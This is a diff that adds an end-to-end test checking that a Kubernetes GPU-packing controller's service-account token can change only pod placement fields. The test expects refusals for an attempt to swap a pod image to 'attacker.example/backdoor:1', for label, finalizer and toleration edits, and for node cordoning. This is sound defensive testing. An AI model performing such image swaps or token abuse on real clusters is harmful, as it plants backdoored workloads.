@@ -422,3 +422,45 @@ def test_only_the_controller_changes_gpupacks_marks_after_create(
     controller.patch_namespaced_pod("queued", gpu_namespace, lift)
     stored = core.read_namespaced_pod("queued", gpu_namespace)
     assert not stored.spec.scheduling_gates and stored.metadata.labels["team"] == "vision"
+
+
+def test_the_controllers_token_changes_only_placement_fields(
+    admin_client: Any, gpu_namespace: str, sa_client: Callable[[str], Any]
+) -> None:
+    """A stolen controller token used to rewrite any pod (an image, say) and relabel any node."""
+    core = client.CoreV1Api(admin_client)
+    core.create_namespaced_pod(gpu_namespace, make_pod(gpu_container("main", "100"), name="victim",
+                                                       namespace=gpu_namespace, labels={"app": "v"}))
+    controller = client.CoreV1Api(sa_client("gpupack-controller"))
+
+    def image_refused() -> bool:
+        try:
+            controller.patch_namespaced_pod("victim", gpu_namespace, [
+                {"op": "replace", "path": "/spec/containers/0/image", "value": "attacker.example/backdoor:1"}])
+        except ApiException as exc:
+            return "affinity and scheduling gates only" in str(exc.body)
+        return False
+
+    _wait("the controller-pod-writes ValidatingAdmissionPolicy to be enforced", image_refused)
+    patches: tuple[tuple[Any, str], ...] = (
+        ({"metadata": {"labels": {"app": "other"}}}, "gpupack.io/* annotations only"),
+        ({"metadata": {"annotations": {"team": "x"}}}, "gpupack.io/* annotations only"),
+        ({"metadata": {"finalizers": ["example.com/block"]}}, "gpupack.io/* annotations only"),
+        ([{"op": "add", "path": "/spec/tolerations/-", "value": {"operator": "Exists"}}],
+         "affinity and scheduling gates only"),
+    )
+    for patch, message in patches:
+        refusal = _refused(lambda: controller.patch_namespaced_pod("victim", gpu_namespace, patch))
+        assert message in str(refusal.body), patch
+    node_name = f"e2e-ctl-probe-{uuid.uuid4().hex[:6]}"
+    core.create_node({"metadata": {"name": node_name}})
+    try:
+        for change in ({"metadata": {"labels": {"cordon": "me"}}}, {"spec": {"unschedulable": True}}):
+            assert _refused(lambda: controller.patch_node(node_name, change)).status == 403
+    finally:
+        core.delete_node(node_name)
+    # What placement needs still works: a gpupack annotation, then lifting the gate.
+    controller.patch_namespaced_pod("victim", gpu_namespace,
+                                    {"metadata": {"annotations": {"gpupack.io/recommended-gpu-milli": "50"}}})
+    controller.patch_namespaced_pod("victim", gpu_namespace, [{"op": "remove", "path": "/spec/schedulingGates"}])
+    assert not core.read_namespaced_pod("victim", gpu_namespace).spec.scheduling_gates
